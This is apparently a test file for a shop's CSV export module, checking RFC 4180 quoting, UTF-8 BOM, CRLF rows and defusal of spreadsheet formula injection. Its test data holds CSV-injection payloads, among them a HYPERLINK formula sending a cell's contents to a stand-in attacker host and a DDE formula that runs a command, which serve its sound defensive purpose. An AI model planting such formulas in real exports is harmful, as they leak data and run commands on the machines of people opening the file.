import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, cellText, csvDocument, csvField, readCsv, undefused } from './csv';
import { decimalAmount, presenceOf } from './exports.service';

/** The exports' CSV (issue 22 point 7): RFC 4180, UTF-8 with a BOM, CRLF, and formula-safe (OWASP CSV injection). */
describe('csv', () => {
  it('writes a file spreadsheets open as UTF-8: the byte-order mark, every field quoted, rows ending in CRLF', () => {
    const text = csvDocument(['name', 'amount'], [
      ['Ana', 1250],
      ['Bo', null],
    ]);
    expect(text).toBe(`${CSV_BOM}"name","amount"\r\n"Ana","1250"\r\n"Bo",""\r\n`);
    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('doubles quotes and keeps commas and line breaks inside their field', () => {
    expect(csvField('say "hi", then\r\nleave\n')).toBe('"say ""hi"", then\r\nleave\n"');
    expect(readCsv(csvDocument(['a', 'b'], [['x,"y"\r\nz', '"']]))).toEqual([
      ['a', 'b'],
      ['x,"y"\r\nz', '"'],
    ]);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['=cmd|\' /C calc\'!A0', `'=cmd|' /C calc'!A0`],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['-2+3', "'-2+3"],
    ['+31 6 12345678', "'+31 6 12345678"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\nline', "'\nline"],
    ['\0x', "'\0x"],
    [' =1+1', "' =1+1"],
    ['\u00A0@x', "'\u00A0@x"],
    ['\u200F=1+1', "'\u200F=1+1"],
    ['\u202E=1+1', "'\u202E=1+1"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
    ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
    ["'already", "''already"],
  ])('defuses %j with a leading apostrophe', (value, cell) => {
    expect(cellText(value)).toBe(cell);
    expect(undefused(cellText(value))).toBe(value);
  });

  it.each([
    ['Ana de Vries', 'Ana de Vries'],
    ['a=b', 'a=b'],
    ['Zoë 🎉 Ünal', 'Zoë 🎉 Ünal'],
    ['שלום\u200F עולם', 'שלום\u200F עולם'],
    ['2026-11-24', '2026-11-24'],
    ['', ''],
  ])('leaves %j as it is', (value, cell) => {
    expect(cellText(value)).toBe(cell);
  });

  it('writes the shop’s own numbers as numbers, dates in ISO 8601, booleans and nothing plainly', () => {
    expect(cellText(-5)).toBe('-5');
    expect(cellText(0)).toBe('0');
    expect(cellText(Number.NaN)).toBe('');
    expect(cellText(new Date('2026-11-24T10:15:00.000Z'))).toBe('2026-11-24T10:15:00.000Z');
    expect(cellText(true)).toBe('true');
    expect(cellText(null)).toBe('');
    expect(cellText(undefined)).toBe('');
  });

  it('turns a lone surrogate, which UTF-8 cannot hold, into U+FFFD', () => {
    expect(cellText('a\uD800b')).toBe('a\uFFFDb');
    expect(cellText('\uDC00')).toBe('\uFFFD');
    expect(cellText('😀')).toBe('😀');
  });

  it('reads back every text it writes, hostile or not, as it was', () => {
    const hostile = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', '\r\n', '\uFF1D', '\u200F', '\u202E', ' ', '🎉', '\0');
    const text = fc.array(fc.oneof(hostile, fc.string({ unit: 'grapheme', maxLength: 8 })), { maxLength: 6 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { maxLength: 8 }), (rows) => {
        const read = readCsv(csvDocument(['a', 'b', 'c'], rows));
        expect(read[0]).toEqual(['a', 'b', 'c']);
        expect(read.slice(1).map((row) => row.map(undefused))).toEqual(rows);
        // No cell a spreadsheet could take for a formula.
        for (const row of read) for (const cell of row) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u);
      }),
      { numRuns: 300 },
    );
  });

  it('refuses text that is not such a file', () => {
    expect(() => readCsv('a,b\r\n')).toThrow();
    expect(() => readCsv('"a')).toThrow();
    expect(() => readCsv('"a"x')).toThrow();
  });

  it('writes amounts as exact decimals and a ticket’s presence in words', () => {
    expect([decimalAmount(1250), decimalAmount(5), decimalAmount(0), decimalAmount(100_000_01), decimalAmount(-250)]).toEqual(['12.50', '0.05', '0.00', '100000.01', '-2.50']);
    expect([presenceOf(true), presenceOf(false), presenceOf(null)]).toEqual(['inside', 'left', 'never']);
  });
});
